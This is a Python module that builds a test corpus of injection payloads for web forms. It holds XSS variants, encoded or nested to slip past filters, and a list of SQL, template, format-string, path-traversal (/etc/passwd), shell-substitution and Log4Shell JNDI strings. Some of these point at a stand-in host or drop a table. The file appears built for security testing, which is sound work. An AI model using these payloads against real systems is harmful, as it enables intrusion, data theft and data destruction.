"""What somebody might type to make a page do what they want: families of tricks, each in several dresses.

`hostile` is in every one, in a tag, an attribute or an address, so that a page in which it came alive is recognised.
"""

from itertools import product

SCRIPT = "hostile(1)"
TAGS = (
    "script",
    "svg",
    "img",
    "iframe",
    "object",
    "embed",
    "math",
    "style",
    "link",
    "base",
    "meta",
)
HANDLERS = (
    "onload",
    "onerror",
    "onfocus",
    "onclick",
    "onanimationend",
    "ONMOUSEOVER",
    "formaction",
)
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "&#106;avascript:",
    "vbscript:",
    "data:text/html,",
)
BREAKS = ('">', "'>", "</textarea>", "</title>", "</script>", "-->", "]]>", "</option></select>")
DRESSES = ("{}", "x{}", "{}{}", " {} ", "Nhà ở {} xã hội")


def _tags():
    for tag, handler in product(TAGS, ("onload", "onerror")):
        yield f"<{tag} {handler}={SCRIPT}>"
    for tag in TAGS:
        yield f"<{tag}/src=//hostile.example/ {HANDLERS[len(tag) % 7]}='{SCRIPT}'>"
        yield f"<{tag.upper()}\n{HANDLERS[len(tag) % 5]} = {SCRIPT}//<"


def _out_of_their_place():
    for end, handler in product(BREAKS, HANDLERS[:5]):
        yield f"{end}<img src=x {handler}={SCRIPT}>"
    for quote, handler in product(("'", '"', "`", ""), HANDLERS):
        yield f"{quote} {handler}={SCRIPT} hostile={quote}x"


def _addresses():
    for scheme in SCHEMES:
        yield f'<a href="{scheme}{SCRIPT}">x</a>'
        yield f"<form action='{scheme}{SCRIPT}'><button>x</button></form>"
        yield f"{scheme}{SCRIPT}"


def _nested():
    for dress in (
        "<<script>{}</script>",
        "<scr<script>ipt>{}</scr</script>ipt>",
        "<script\n>{}</script\t>",
    ):
        yield dress.format(SCRIPT)
    for outer in ("svg", "math", "noscript", "template", "table", "select"):
        yield f"<{outer}><style><img title='</style><img src=x onerror={SCRIPT}>'>"
        yield f"<{outer}><p title='</{outer}><hostile-x onfocus={SCRIPT}>'>"
    yield f"&lt;script&gt;{SCRIPT}&lt;/script&gt;"
    yield f"&amp;lt;img src=x onerror={SCRIPT}&amp;gt;"
    yield f"{{{{ '<hostile-x>'|safe }}}}<hostile-x onclick={SCRIPT}>"
    yield f"%3Cscript%3E{SCRIPT}%3C/script%3E"
    yield f"＜script＞{SCRIPT}＜/script＞"
    yield f"<!--><hostile-x onclick={SCRIPT}>-->"


def _dressed():
    plain = [*_tags(), *_out_of_their_place(), *_addresses(), *_nested()]
    return [DRESSES[place % len(DRESSES)].format(each, each) for place, each in enumerate(plain)]


PAYLOADS = _dressed()[:150]  # as many as a form is ever tried with
# What other interpreters than a browser might take for theirs.
FOR_OTHERS = (
    "' OR 1=1--",
    "'; DROP TABLE account; --",
    '" UNION SELECT password_hash FROM account --',
    "{{7*7}}",
    "{% raw %}{{ config }}{% endraw %}",
    "${jndi:ldap://hostile.example/x}",
    "%s%n%(message)s{0}",
    '=HYPERLINK("//hostile.example")',
    "../../../../etc/passwd",
    "$(hostile)`hostile`|hostile",
)
